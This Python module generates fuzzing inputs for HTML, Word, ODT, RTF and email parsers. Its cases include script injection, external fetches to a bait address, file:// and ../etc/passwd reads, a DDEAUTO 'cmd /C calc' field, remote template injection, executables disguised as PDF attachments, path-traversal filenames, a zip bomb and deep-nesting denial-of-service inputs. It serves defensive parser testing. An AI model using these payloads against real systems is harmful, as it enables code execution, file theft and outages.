"""Webpagina's, Word, rtf en e-mail: scripts, lagen zonder eind, cellen die zich uitstrekken, bijlagen die liegen."""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from html import escape

from bouwstenen import (
    FORMULES,
    KWAAD,
    KWADE_TEKST,
    MAAL,
    Geval,
    Lokaas,
    docx,
    docx_alinea,
    docx_delen,
    geval,
    notulen,
    odt,
    odt_delen,
    officieel,
    parlamint,
    vlos,
    zip_van,
)

_MB = 1 << 20


def gevallen(lokaas: Lokaas) -> Iterator[Geval]:
    for naam, inhoud in _html(lokaas):
        yield geval(
            f"html: {naam}", f"html-{naam}.html", f"<!DOCTYPE html><html><body><p>Een.</p>{inhoud}</body></html>"
        )
    for naam, maak in _lange_html().items():
        yield Geval(f"html: {naam}", f"html-{naam}.html", lambda m=maak: f"<html><body>{m()}</body></html>".encode())
    yield geval(
        "html: codering utf-7",
        "utf7.html",
        b"<html><head><meta charset=utf-7></head><body>+ADw-script+AD4-</body></html>",
    )
    yield geval("html: utf-16", "utf16.html", f"<html><body>{KWADE_TEKST}</body></html>".encode("utf-16"))
    yield geval("html: nulbytes", "nul.html", b"<html><body><scr\0ipt>alert(1)</scr\0ipt><p>\0x</p></body></html>")
    for naam, maak_xml in _docx(lokaas).items():
        yield Geval(f"docx: {naam}", f"docx-{naam}.docx", maak_xml)
    for naam, maak_xml in _odt(lokaas).items():
        yield Geval(f"odt: {naam}", f"odt-{naam}.odt", maak_xml)
    for naam, tekst in _rtf(lokaas):
        yield geval(f"rtf: {naam}", f"rtf-{naam}.rtf", tekst.encode("latin-1", "replace"))
    for naam, bericht in _eml(lokaas):
        yield geval(f"eml: {naam}", f"eml-{naam}.eml", bericht.encode("utf-8", "surrogateescape"))
    kwaad = escape(KWADE_TEKST)
    for soort, maak_verslag in {"vlos": vlos, "officieel": officieel, "parlamint": parlamint}.items():
        yield geval(
            f"{soort}: opmaak overal",
            f"{soort}-opmaak.xml",
            maak_verslag(kwaad, naam=escape(KWAAD[0]), titel=escape(KWAAD[1])),
        )
        formule = escape(FORMULES[1])
        yield geval(
            f"{soort}: formules overal", f"{soort}-formules.xml", maak_verslag(formule, naam=formule, titel=formule)
        )


def _html(lokaas: Lokaas) -> Iterator[tuple[str, str]]:
    for nummer, kwaad in enumerate(KWAAD):
        yield f"kwaad {nummer}", f"{kwaad}<p>Mevrouw Keuning (bewoner): {escape(kwaad)}</p>"
    for waar in ("src", "href", "data", "background", "poster", "action"):
        tags = "".join(
            f'<{tag} {waar}="{lokaas.adres}/{tag}">x</{tag}>' for tag in ("img", "a", "object", "body", "video", "form")
        )
        yield f"haalt op met {waar}", tags
    yield (
        "leest een bestand",
        f'<iframe src="file://{lokaas.bestand}"></iframe><object data="file://{lokaas.bestand}"></object>',
    )
    yield (
        "stijl die ophaalt",
        f'<style>@import "{lokaas.adres}/x.css"; p::before {{ content: "<script>" }}</style><p>x</p>',
    )
    yield "titel", f"<title>{escape(KWADE_TEKST)}</title><h1>{escape(KWADE_TEKST)}</h1>"
    yield "commentaar", "<!--[if IE]><script>alert(1)</script><![endif]--><!-- a -- b --!> <p>x</p>"
    yield "sjabloon", "<template><script>alert(1)</script></template><noscript><p>Zonder.</p></noscript>"
    yield "entiteiten", "&#0;&#xD800;&#x110000;&#99999999999;&lt;script&gt;&bestaatniet;&amp;lt;" * 100
    yield (
        "cel van een miljard",
        "<table><tr><td colspan=1000000000 rowspan=1000000000>x</td></tr><tr><td>y</td></tr></table>",
    )
    yield (
        "lijst vanaf een miljard",
        "<ol start=-999999999 type=i><li value=999999999>x<li>y</ol><ol start=999999999 type=I><li>z</ol>",
    )
    yield "kop van honderd cijfers", f"<div role=heading aria-level={'9' * 100}>x</div>"
    yield "half", "<p>x<b>y<table><tr><td"
    yield "dubbele kenmerken", "<p style=display:none style=display:block hidden id=a id=b onclick=alert(1)>x</p>"


def _lange_html() -> dict[str, Callable[[], str]]:
    return {
        "honderdduizend div's": lambda: "<div>" * 100_000 + "diep",
        "honderdduizend div's die sluiten": lambda: "<div>" * 100_000 + "diep" + "</div>" * 100_000,
        "negentienhonderd lagen": lambda: "<div>" * 1900 + "diep" + "</div>" * 1900,
        "honderdduizend open letters": lambda: "<b>" * 100_000 + "vet",
        "honderdduizend alinea's": lambda: "<p>" * 100_000 + "x",
        "tabellen in tabellen": lambda: "<table><tr><td>" * 500 + "x",
        "lijsten in lijsten": lambda: "<ul><li>" * 900 + "x",
        "kenmerk van 5 MB": lambda: f'<p title="{"k" * (5 * _MB)}">x</p>',
        "naam van 1 MB": lambda: f"<{'a' * _MB}>x",
        "voorgevormd met honderdduizend regels": lambda: "<pre>" + "\n" * 100_000 + "x</pre>",
        "een woord van 1 MB": lambda: f"<p>{'a' * _MB}</p>",
        "veel regeleinden": lambda: "<p>" + "x<br>" * (1000 * MAAL),
        "tabel van veel rijen": lambda: "<table>" + "<tr><td>a<td>b" * (1000 * MAAL) + "</table>",
        "halve tags": lambda: "<a " * 100_000,
        "eindtags": lambda: "</p></b></div>" * 50_000 + "x",
        "commentaar dat niet ophoudt": lambda: "<p>x</p><!--" + "-" * _MB,
        "beeld van 5 MB in de tekst": lambda: f'<img src="data:image/png;base64,{"A" * (5 * _MB)}"><p>x</p>',
    }


def _docx(lokaas: Lokaas) -> dict[str, Callable[[], bytes]]:
    def cel(binnen: str, eigen: str = "") -> str:
        return f"<w:tc><w:tcPr>{eigen}</w:tcPr>{docx_alinea(binnen)}</w:tc>"

    def tabel(*rijen: str) -> str:
        return (
            "<w:tbl><w:tblGrid><w:gridCol/></w:tblGrid>" + "".join(f"<w:tr>{rij}</w:tr>" for rij in rijen) + "</w:tbl>"
        )

    def lichaam(inhoud: str, relaties: str = "") -> bytes:
        return zip_van(docx_delen(docx_alinea("Een.") + inhoud, relaties=relaties))

    def relatie(soort: str, doel: str) -> str:
        return (
            '<Relationship Id="rId9" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/{soort}" Target="{doel}"/>'
        )

    vervolg = '<w:vMerge w:val="continue"/>'
    return {
        "opmaak": lambda: docx(*[f"Mevrouw Keuning (bewoner): {escape(k)}" for k in KWAAD]),
        "formules": lambda: docx(*map(escape, FORMULES[:6])),
        "cel over een miljard kolommen": lambda: lichaam(tabel(cel("x", '<w:gridSpan w:val="1000000000"/>'))),
        "cel over min een kolom": lambda: lichaam(tabel(cel("x", '<w:gridSpan w:val="-1"/>'))),
        "cel over geen getal": lambda: lichaam(tabel(cel("x", '<w:gridSpan w:val="veel"/>'))),
        "cel over tweeduizend rijen": lambda: lichaam(
            tabel(cel("x", '<w:vMerge w:val="restart"/>'), *[cel("y", vervolg)] * 2000)
        ),
        "cel die bij niets hoort": lambda: lichaam(tabel(cel("x", vervolg))),
        "cel die naast de vorige ligt": lambda: lichaam(tabel(cel("x"), cel("y") + cel("z", vervolg))),
        "rij zonder cellen": lambda: lichaam(tabel("", cel("x"))),
        "tabellen in tabellen": lambda: lichaam(
            "<w:tbl><w:tr><w:tc>" * 200 + docx_alinea("x") + "</w:tc></w:tr></w:tbl>" * 200
        ),
        "tabel van duizend bij vijftig": lambda: lichaam(tabel(*[cel("x") * 50] * 200)),
        "onbekende stijl": lambda: lichaam(
            '<w:p><w:pPr><w:pStyle w:val="Kwaad"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
        ),
        "velden": lambda: lichaam(
            f'<w:p><w:fldSimple w:instr="INCLUDETEXT {lokaas.adres}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
            f'<w:fldSimple w:instr="DDEAUTO cmd &quot;/C calc&quot;"><w:r><w:t>y</w:t></w:r></w:fldSimple></w:p>'
        ),
        "sjabloon van buiten": lambda: lichaam("", relatie("attachedTemplate", f"{lokaas.adres}/x.dotm")),
        "beeld van buiten": lambda: lichaam(docx_alinea("x"), relatie("image", f"{lokaas.adres}/x.png")),
        "onderdeel uit een bestand": lambda: lichaam(docx_alinea("x"), relatie("aFChunk", f"file://{lokaas.bestand}")),
        "relatie omhoog": lambda: lichaam(
            docx_alinea("x"), relatie("styles", "../../../../etc/passwd").replace(' TargetMode="External"', "")
        ),
        "relatie in een kring": lambda: lichaam(
            docx_alinea("x"), relatie("styles", "document.xml").replace(' TargetMode="External"', "")
        ),
        "geen soorten": lambda: zip_van(
            {n: d for n, d in docx_delen(docx_alinea("x")).items() if n != "[Content_Types].xml"}
        ),
        "geen relaties": lambda: zip_van({n: d for n, d in docx_delen(docx_alinea("x")).items() if n != "_rels/.rels"}),
        "twintigduizend lopen": lambda: lichaam("<w:p>" + "<w:r><w:t>a </w:t></w:r>" * 20_000 + "</w:p>"),
        "veel alinea's": lambda: lichaam(docx_alinea("Ja.") * 500 * MAAL),
        "alinea van 1 MB": lambda: lichaam(docx_alinea("brug " * (_MB // 5))),
        "lege body": lambda: zip_van(docx_delen("")),
    }


def _odt(lokaas: Lokaas) -> dict[str, Callable[[], bytes]]:
    def lichaam(inhoud: str) -> bytes:
        return zip_van(odt_delen(inhoud))

    return {
        "opmaak": lambda: odt(*[f"Mevrouw Keuning (bewoner): {escape(k)}" for k in KWAAD]),
        "formules": lambda: odt(*map(escape, FORMULES[:6])),
        "lijsten in lijsten": lambda: lichaam(
            "<text:list><text:list-item>" * 300 + "<text:p>x</text:p>" + "</text:list-item></text:list>" * 300
        ),
        "lijst vanaf 10^30": lambda: lichaam(
            f'<text:list><text:list-item text:start-value="{10**30}"><text:p>x</text:p></text:list-item></text:list>'
        ),
        "tabellen in tabellen": lambda: lichaam(
            "<table:table><table:table-row><table:table-cell>" * 150
            + "<text:p>x</text:p>"
            + "</table:table-cell></table:table-row></table:table>" * 150
        ),
        "cellen zonder tabel": lambda: lichaam(
            "<table:table-cell><text:p>x</text:p></table:table-cell><table:table-row/>"
        ),
        "kop van niveau 10^30": lambda: lichaam(
            f'<text:h text:outline-level="{10**30}">x</text:h><text:h text:outline-level="-4">y</text:h>'
        ),
        "miljard blanks": lambda: lichaam('<text:p>a<text:s text:c="1000000000"/>b</text:p>'),
        "alinea in alinea": lambda: lichaam("<text:p>a" * 300 + "</text:p>" * 300),
        "noten in noten": lambda: lichaam(
            "<text:p>"
            + "<text:note><text:note-citation>1</text:note-citation><text:note-body><text:p>" * 100
            + "x"
            + "</text:p></text:note-body></text:note>" * 100
            + "</text:p>"
        ),
        "beeld van buiten": lambda: lichaam(
            f'<text:p><draw:image xmlns:draw="d" xmlns:xlink="x" xlink:href="{lokaas.adres}"/>x</text:p>'
        ),
        "script": lambda: lichaam(
            '<office:script script:language="JavaScript" xmlns:script="s">alert(1)</office:script><text:p>x</text:p>'
        ),
        "veel alinea's": lambda: lichaam("<text:p>Ja.</text:p>" * 500 * MAAL),
    }


def _rtf(lokaas: Lokaas) -> Iterator[tuple[str, str]]:
    def rtf(binnen: str) -> str:
        return r"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0 Times;}}" + binnen + r"\par Ja, voorzitter.\par}"

    yield (
        "opmaak",
        rtf(
            "".join(f"Mevrouw Keuning (bewoner): {k}\\par " for k in KWAAD)
            .replace("{{", "")
            .replace("{%", "")
            .replace("{ {", "")
        ),
    )
    yield "formules", rtf("".join(f"{f}\\par " for f in FORMULES))
    yield "honderdduizend groepen", rtf("{" * 100_000)
    yield "honderdduizend groepen die sluiten", rtf("{" * 100_000 + "x" + "}" * 100_000)
    yield "honderdduizend keer dicht", rtf("}" * 100_000)
    yield "bin van 2 GB", rtf(r"\bin2147483647 x")
    yield "bin negatief", rtf(r"\bin-5 x")
    yield (
        "getallen buiten bereik",
        rtf(r"\fs99999999999999999999 a\u-99999 b\u65536 c\li-9999999999999 d\uc99999 e\u8364 ?"),
    )
    yield "halve surrogaten", rtf(r"\u-10240 ?a\u-9216 ?b\u55357 ?")
    yield "verkeerde bytes", rtf(r"\'zz\'8\'\'ff\'00" * 500)
    yield "beeld van 2 MB", rtf(r"{\pict\pngblip " + "89504e47" * 250_000 + "}")
    yield "ingesloten programma", rtf(r"{\object\objocx{\*\objdata 0105000002000000" + "41" * 5000 + "}}")
    yield (
        "velden",
        rtf(
            r"{\field{\*\fldinst INCLUDETEXT "
            + lokaas.adres
            + r"}{\fldrslt x}}{\field{\*\fldinst DDEAUTO cmd}{\fldrslt y}}"
        ),
    )
    yield "sjabloon van buiten", rtf(r"{\*\template " + lokaas.adres + "}")
    yield "codetabel bestaat niet", rtf("tekst").replace("ansicpg1252", "ansicpg99999")
    yield "tienduizend letters", rtf(r"{\fonttbl" + "".join(f"{{\\f{n} A;}}" for n in range(10_000)) + "}")
    yield "tabel van duizend cellen", rtf(r"\trowd" + r"\cellx1" * 1000 + r"\intbl " + r"x\cell " * 1000 + r"\row")
    yield "veel alinea's", rtf(r"Ja.\par " * 1000 * MAAL)
    yield "woord van 1 MB", rtf("\\" + "a" * _MB)
    yield "half", r"{\rtf1\ansi{\fonttbl{\f0 Times"
    yield "alleen een kop", r"{\rtf"
    yield "nulbytes", rtf("a\0b\0c")


def _eml(lokaas: Lokaas) -> Iterator[tuple[str, str]]:
    kop = "From: a@b.example\nTo: c@d.example\nSubject: Verslag\nDate: Mon, 3 Mar 2025 10:00:00 +0100\nMIME-Version: 1.0\n"
    tekst = f"Content-Type: text/plain; charset=utf-8\n\n{notulen()}"

    def delen(*deel: str, soort: str = "mixed") -> str:
        return (
            f'{kop}Content-Type: multipart/{soort}; boundary="G"\n\n' + "".join(f"--G\n{d}\n" for d in deel) + "--G--\n"
        )

    def bijlage(naam: str, inhoud: bytes, soort: str = "application/octet-stream") -> str:
        return (
            f'Content-Type: {soort}\nContent-Disposition: attachment; filename="{naam}"\n'
            f"Content-Transfer-Encoding: base64\n\n{base64.encodebytes(inhoud).decode()}"
        )

    yield (
        "opmaak",
        kop.replace("Verslag", KWAAD[0]).replace("a@b", f"{KWAAD[1]} <a@b")
        + "Content-Type: text/plain\n\n"
        + KWADE_TEKST,
    )
    yield "opmaak in html", kop + f"Content-Type: text/html\n\n<html><body>{KWADE_TEKST}<p>Ja.</p></body></html>"
    yield (
        "html die ophaalt",
        kop + f'Content-Type: text/html\n\n<img src="{lokaas.adres}/x"><iframe src="file://{lokaas.bestand}">',
    )
    yield "formules", kop.replace("Verslag", FORMULES[1]) + tekst
    genest = tekst
    for n in range(200):
        genest = f'Content-Type: multipart/mixed; boundary="g{n}"\n\n--g{n}\n{genest}\n--g{n}--\n'
    yield "tweehonderd lagen delen", kop + genest
    yield (
        "vijfduizend lagen zonder eind",
        kop + "".join(f'Content-Type: multipart/mixed; boundary="g{n}"\n\n--g{n}\n' for n in range(5000)),
    )
    bericht = kop + tekst
    for _ in range(100):
        bericht = f"{kop}Content-Type: message/rfc822\n\n{bericht}"
    yield "honderd berichten in elkaar", bericht
    yield "tweeduizend berichten in elkaar", f"{kop}Content-Type: message/rfc822\n\n" * 2000
    yield (
        "bijlage die een programma is",
        delen(tekst, bijlage("verslag.pdf", b"MZ\x90\0"), bijlage("verslag.docx", b"\x7fELF")),
    )
    yield (
        "bijlage met een naam omhoog",
        delen(tekst, bijlage("../../dialoogmeter-uitbraak.txt", b"x"), bijlage("C:\\dialoogmeter-uitbraak.txt", b"y")),
    )
    yield "bijlage die een bom is", delen(tekst, bijlage("a.docx", zip_van(docx_delen(docx_alinea("a" * 3_000_000)))))
    yield "bijlage is tekst", delen(tekst, bijlage("a.txt", notulen("Uit de bijlage.").encode(), "text/plain"))
    yield "geen grens", f"{kop}Content-Type: multipart/mixed\n\n{tekst}"
    yield "lege grens", f'{kop}Content-Type: multipart/mixed; boundary=""\n\n--\n{tekst}\n----\n'
    yield (
        "grens van 100 kB",
        f'{kop}Content-Type: multipart/mixed; boundary="{"g" * 100_000}"\n\n--{"g" * 100_000}\n{tekst}',
    )
    yield "veel delen", delen(*[tekst] * 50 * MAAL)
    yield "kop van 1 MB", f"{kop}X-Lang: {'x' * _MB}\n{tekst}"
    yield "onderwerp in tienduizend stukken", f"{kop.replace('Verslag', '=?utf-8?B?SmE=?= ' * 10_000)}{tekst}"
    yield "tienduizend koppen", f"{kop}{'Received: x' * 3}\n" + "Received: van a naar b\n" * 10_000 + tekst
    yield (
        "naam in tienduizend stukken",
        delen(tekst, "Content-Type: text/plain; " + "; ".join(f"name*{n}=a" for n in range(10_000)) + "\n\nx"),
    )
    for codering in ("kwaad-1", "rot13", "zlib", "idna", "punycode", "unicode_escape", "undefined", "utf-7", "utf-16"):
        yield f"codering {codering}", f"{kop}Content-Type: text/plain; charset={codering}\n\n{notulen('xn--a ' * 500)}"
    for codering in ("base64", "quoted-printable", "x-uuencode", "kwaad", "8bit"):
        yield (
            f"verpakking {codering}",
            f"{kop}Content-Type: text/plain\nContent-Transfer-Encoding: {codering}\n\n=ZZ=\n@@@@ {notulen()}",
        )
    yield (
        "datum die niet bestaat",
        kop.replace("Mon, 3 Mar 2025 10:00:00 +0100", "Zzz, 99 Abc 99999999999 99:99:99 +9999999") + tekst,
    )
    yield "adressen", kop.replace("c@d.example", ", ".join(f'"{n}" <{n}@d.example>' for n in range(5000))) + tekst
    yield "haakjes in adres", kop.replace("c@d.example", "(" * 20_000) + tekst
    yield "alleen koppen", kop + "\n"
    yield "halve surrogaten", kop.replace("Verslag", "\udcff\udc80") + tekst
